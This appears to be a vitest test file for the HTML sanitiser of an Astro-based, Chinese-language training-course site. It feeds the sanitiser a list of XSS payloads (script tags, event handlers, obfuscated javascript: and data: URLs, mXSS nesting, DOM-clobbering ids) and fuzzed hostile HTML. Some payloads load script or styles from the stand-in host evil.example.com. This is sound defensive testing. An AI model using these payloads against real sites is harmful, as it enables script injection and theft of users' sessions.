import { readFileSync } from 'node:fs';
import path from 'node:path';
import { createMarkdownProcessor } from '@astrojs/markdown-remark';
import remarkCjkFriendly from 'remark-cjk-friendly';
import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import { rehypeHeadingIds } from '../../src/markdown/rehype-heading-ids.ts';
import { rehypeUntrustedHtml, sanitizeSchema, type UntrustedHtmlOptions } from '../../src/markdown/sanitize.ts';
import { htmlTags } from '../../src/lib/csp.ts';
import { importBytes } from '../../src/import/import-file.ts';
import { buildSite } from '../helpers/lectern.ts';
import { fuzzParameters } from '../helpers/fuzz.ts';
import { fixture } from '../helpers/paths.ts';

/** The Markdown pipeline of astro.config.mjs: same processor, same plugins, same order. */
async function render(markdown: string, options: UntrustedHtmlOptions = {}): Promise<string> {
  const processor = await createMarkdownProcessor({
    remarkPlugins: [remarkCjkFriendly],
    rehypePlugins: [[rehypeUntrustedHtml, options], rehypeHeadingIds],
    smartypants: false,
  });
  return (await processor.render(markdown)).code;
}

const ACTIVE_ELEMENTS = new Set(['script', 'style', 'iframe', 'object', 'embed', 'form', 'meta', 'base', 'link', 'svg', 'math', 'template', 'noscript', 'textarea', 'button', 'select', 'frame', 'frameset', 'applet']);
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'cite', 'longdesc', 'xlink:href', 'poster', 'background']);

/**
 * What must never come out of the sanitiser, whatever went in, read from the
 * output's tags and attributes (entities decoded, as the browser reads them).
 */
function dangers(html: string, allowIframes = false): string[] {
  const found: string[] = [];
  for (const { name, attributes } of htmlTags(html)) {
    if (ACTIVE_ELEMENTS.has(name) && !(allowIframes && name === 'iframe')) found.push(`<${name}>`);
    for (const [key, raw] of attributes) {
      // Browsers drop tabs and newlines inside URLs and trim spaces around them.
      const value = raw.replace(/[\t\n\r]/g, '').trim().toLowerCase();
      if (key.startsWith('on')) found.push(`${key}= on <${name}>`);
      if (key === 'style' || key === 'srcdoc') found.push(`${key}= on <${name}>`);
      if (!URL_ATTRIBUTES.has(key)) continue;
      if (/^(javascript|vbscript|livescript):/.test(value) || /[\s,](javascript|vbscript):/.test(value)) found.push(`script URL in <${name} ${key}>`);
      if (value.startsWith('data:') && !(name === 'img' && key === 'src' && value.startsWith('data:image/'))) found.push(`data URL in <${name} ${key}>`);
    }
  }
  return found;
}

/** Payloads from the OWASP XSS filter evasion cheat sheet and the mXSS literature, in Markdown and raw HTML. */
const hostile: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:image/png;base64,iVBORw0KGgo=">an image URL as a link target</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x">',
  '<picture><source srcset="javascript:alert(1)"><img src="a.png"></picture>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example.com/"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example.com/x.css">',
  '<style>@import "https://evil.example.com/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover the page</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<div id="pagefind" name="location">clobber the globals</div>',
];

describe('untrusted HTML in Markdown', () => {
  test.each(hostile)('%s comes out harmless', async (payload) => {
    const html = await render(`段落前文。\n\n${payload}\n\n段落后文。`);
    expect(dangers(html), html).toEqual([]);
    // The surrounding text survives: sanitised, not rejected.
    expect(html).toContain('段落前文。');
    expect(html).toContain('段落后文。');
  });

  test('a link whose URL was removed is left as its text', async () => {
    const html = await render('<a href="javascript:alert(1)">点我</a>，[也点我](javascript:alert(2))，<a name="maodian">锚点</a>');
    expect(html).toContain('<p>点我，也点我，<a name="user-content-maodian">锚点</a></p>');
  });

  test('ids written in a document cannot clobber globals of the site scripts', async () => {
    const html = await render('<div id="pagefind" name="location">x</div>');
    expect(html).toContain('id="user-content-pagefind"');
    expect(html).not.toMatch(/id="pagefind"/);
  });

  test('harmless markup stays', async () => {
    const markdown = [
      '| 方面 | 要点 |', '| --- | --- |', '| 监督 | 依法监督 |', '',
      '<table><caption>附表</caption><tr><td colspan="2" rowspan="1">合并</td></tr></table>', '',
      '上标<sup>1</sup>，下标H<sub>2</sub>O，换行<br>继续。', '',
      '<details open><summary>办理时限</summary>三个月</details>', '',
      '<ruby>督<rt>dū</rt></ruby>，<kbd>Ctrl</kbd>，<mark>重点</mark>，<abbr title="全国人民代表大会">全国人大</abbr>，<del>删去</del><ins>增加</ins>', '',
      '<figure><img src="data:image/png;base64,iVBORw0KGgo=" alt="截图"><figcaption>截图说明</figcaption></figure>', '',
      '<blockquote>引文</blockquote>', '',
      '[网站](https://www.example.gov.cn/) [邮件](mailto:a@example.gov.cn) [电话](tel:0376-0000000)', '',
      '- [x] 已办结', '- [ ] 未办结',
    ].join('\n');
    const html = await render(markdown);
    for (const kept of [
      '<table>', '<th>方面</th>', '<caption>附表</caption>', 'colspan="2"', '<sup>1</sup>', '<sub>2</sub>', '<br>',
      '<details open>', '<summary>办理时限</summary>', '<ruby>督<rt>dū</rt></ruby>', '<kbd>Ctrl</kbd>', '<mark>重点</mark>',
      '<abbr title="全国人民代表大会">', '<del>删去</del>', '<ins>增加</ins>', '<figure>', 'src="data:image/png;base64,iVBORw0KGgo="',
      '<figcaption>截图说明</figcaption>', '<blockquote>引文</blockquote>', 'href="https://www.example.gov.cn/"',
      'href="mailto:a@example.gov.cn"', 'href="tel:0376-0000000"', 'type="checkbox"',
    ]) {
      expect(html, kept).toContain(kept);
    }
    expect(dangers(html)).toEqual([]);
  });

  test('heading ids are added after sanitising, so the table of contents anchors match', async () => {
    const html = await render('[跳到二](#sec-2)\n\n## 一、总体要求\n\n### （一）基本原则\n\n<h2>二、主要任务</h2>\n\n## 会议交流');
    expect(html).toContain('<h2 id="sec-1">一、总体要求</h2>');
    expect(html).toContain('<h3 id="sec-1-1">（一）基本原则</h3>');
    // A heading written in raw HTML gets its id like any other.
    expect(html).toContain('<h2 id="sec-2">二、主要任务</h2>');
    expect(html).toContain('<h2 id="huiyi-jiaoliu">会议交流</h2>');
    expect(html).toContain('href="#sec-2"');
  });

  test('links to ids and footnotes in the document follow the prefix', async () => {
    const html = await render('[见附表](#fubiao)\n\n<table id="fubiao"><tr><td>1</td></tr></table>\n\n<a name="old-anchor"></a>[旧锚点](#old-anchor)\n\n脚注[^1]。\n\n[^1]: 注释。');
    expect(html).toContain('href="#user-content-fubiao"');
    expect(html).toContain('id="user-content-fubiao"');
    expect(html).toContain('href="#user-content-old-anchor"');
    // remark's footnote ids already carry the prefix: not doubled, and the links still match.
    expect(html).toContain('href="#user-content-fn-1"');
    expect(html).toContain('id="user-content-fn-1"');
    expect(html).not.toContain('user-content-user-content');
  });

  test('iframes only from the hosts site.yaml allows', async () => {
    const allowIframes = ['v.example.gov.cn'];
    const frames = [
      '<iframe src="https://v.example.gov.cn/player/1" title="允许" width="320" height="180" onload="alert(1)"></iframe>',
      '<iframe src="http://V.EXAMPLE.GOV.CN/player/2" title="大小写"></iframe>',
      '<iframe src="https://v.example.gov.cn.evil.example.com/" title="后缀"></iframe>',
      '<iframe src="https://evil.example.com/?v.example.gov.cn" title="查询"></iframe>',
      '<iframe src="//v.example.gov.cn/player/3" title="无协议"></iframe>',
      '<iframe src="javascript:alert(1)" title="脚本"></iframe>',
      '<iframe src="data:text/html,x" title="data"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>" title="srcdoc"></iframe>',
    ].join('\n');
    const html = await render(frames, { allowIframes });
    expect(html.match(/<iframe[^>]*>/g)).toEqual([
      '<iframe src="https://v.example.gov.cn/player/1" title="允许" width="320" height="180">',
      '<iframe src="http://V.EXAMPLE.GOV.CN/player/2" title="大小写">',
    ]);
    expect(dangers(html, true)).toEqual([]);
    expect(await render(frames)).not.toContain('<iframe');
  });

  test('random HTML built from hostile pieces never gets through', async () => {
    const processor = await createMarkdownProcessor({
      remarkPlugins: [remarkCjkFriendly],
      rehypePlugins: [[rehypeUntrustedHtml, {}], rehypeHeadingIds],
      smartypants: false,
    });
    const tag = fc.constantFrom('a', 'img', 'div', 'p', 'script', 'style', 'iframe', 'svg', 'math', 'table', 'td', 'details', 'object', 'form', 'input', 'noscript', 'template', 'textarea', 'select', 'base', 'meta', 'link', 'span', 'h2');
    const value = fc.constantFrom('javascript:alert(1)', ' JaVaScRiPt:x', 'java&#x09;script:x', '&#106;avascript:x', 'data:text/html,<script>x</script>', 'data:image/png;base64,AAAA', 'https://example.com/', '#sec-1', 'x" onerror="alert(1)', "x' onload='alert(1)", '</script><script>alert(1)</script>', '');
    const name = fc.constantFrom('href', 'src', 'srcset', 'style', 'onerror', 'onclick', 'onload', 'id', 'name', 'class', 'action', 'formaction', 'srcdoc', 'cite', 'xlink:href', 'title');
    const attribute = fc.tuple(name, value).map(([n, v]) => ` ${n}="${v}"`);
    const element = fc.tuple(tag, fc.array(attribute, { maxLength: 3 }), fc.constantFrom('', '文字', 'alert(1)', '<img src=x onerror=alert(1)>', '-->'), fc.boolean())
      .map(([t, attrs, inner, close]) => `<${t}${attrs.join('')}>${inner}${close ? `</${t}>` : ''}`);
    const document = fc.array(fc.oneof(element, fc.constantFrom('正文', '\n\n', '[x](javascript:alert(1))', '<!--', '-->', '`code`')), { maxLength: 12 }).map((parts) => parts.join(''));
    await fc.assert(
      fc.asyncProperty(document, async (markdown) => {
        const html = (await processor.render(markdown)).code;
        expect(dangers(html), `${markdown}\n→ ${html}`).toEqual([]);
      }),
      fuzzParameters(300),
    );
  });

  test('imported web pages and Markdown reach the page harmless', async () => {
    const payloads = hostile.join('\n');
    const page = `<html><head><title>培训班侧记</title></head><body><div class="article"><h1>培训班侧记</h1><p>正文第一段，讲述培训班的情况。</p>${payloads}<p>正文最后一段。</p></div></body></html>`;
    // A web page is brought in as text: its markup, hostile or not, becomes escaped text.
    const fromHtml = importBytes(Buffer.from(page, 'utf8'), 'html');
    expect(dangers(await render(fromHtml.body))).toEqual([]);
    // A Markdown file keeps its raw HTML; the pipeline's sanitiser takes it from there.
    const fromMarkdown = importBytes(Buffer.from(`# 培训班侧记\n\n正文。\n\n${payloads}\n`, 'utf8'), 'markdown');
    expect(fromMarkdown.body).toContain('<script>');
    expect(dangers(await render(fromMarkdown.body))).toEqual([]);
  });

  test('the schema is one module the importer can reuse', () => {
    const schema = sanitizeSchema();
    expect(schema.tagNames).not.toContain('script');
    expect(schema.tagNames).not.toContain('iframe');
    expect(sanitizeSchema({ allowIframes: ['v.example.gov.cn'] }).tagNames).toContain('iframe');
    expect(schema.strip).toContain('style');
  });
});

describe('the built fixture', () => {
  let dist: string;
  let body: string;
  beforeAll(() => {
    dist = buildSite(fixture('hardening'));
    const page = readFileSync(path.join(dist, 'courses/anquan-2024/jianyi-banli/index.html'), 'utf8');
    // The document's text: from its body container (`body` or `doc-body`, as the layout names it) to the end of the article.
    body = page.slice(page.search(/<div class="(doc-)?body\b/), page.indexOf('</article>'));
    expect(body.length).toBeGreaterThan(500);
  });

  test('builds, keeps the harmless markup and drops the rest', () => {
    for (const kept of ['<details open>', '<summary>办理时限</summary>', '<sup>1</sup>', '<sub>2</sub>', '<br>', '<caption>附表：办理情况</caption>', '<ruby>督<rt>dū</rt></ruby>', '<mark>重点</mark>', 'src="data:image/png;base64,', '<figcaption>粘贴进来的小图</figcaption>', '补订：以上危险内容都被清洗掉了。']) {
      expect(body, kept).toContain(kept);
    }
    expect(dangers(body, true)).toEqual([]);
    expect(body).not.toContain('window.injected');
  });

  test('site.yaml allowIframes lets exactly its host through', () => {
    expect(body.match(/<iframe[^>]*>/g)).toEqual(['<iframe src="https://v.example.gov.cn/player/1" title="允许的视频" width="320" height="180">']);
  });

  test('MDX, for trusted authors, is not sanitised', () => {
    const mdx = readFileSync(path.join(dist, 'courses/anquan-2024/xinren/index.html'), 'utf8');
    expect(mdx).toContain('这里的表达式算出 6');
    expect(mdx).toContain('<details><summary>MDX 里的 HTML 原样保留</summary>');
  });

  test('files with CR LF line ends and a byte order mark build like any other', () => {
    const crlf = readFileSync(path.join(dist, 'courses/anquan-2024/kaiban/index.html'), 'utf8');
    expect(crlf).toContain('<h1>在开班式上的讲话</h1>');
    expect(crlf).toContain('<h2 id="sec-1">一、为什么要学</h2>');
    const bom = readFileSync(path.join(dist, 'courses/anquan-2024/zhuchi/index.html'), 'utf8');
    expect(bom).toContain('<h1>开班式主持词</h1>');
  });
});
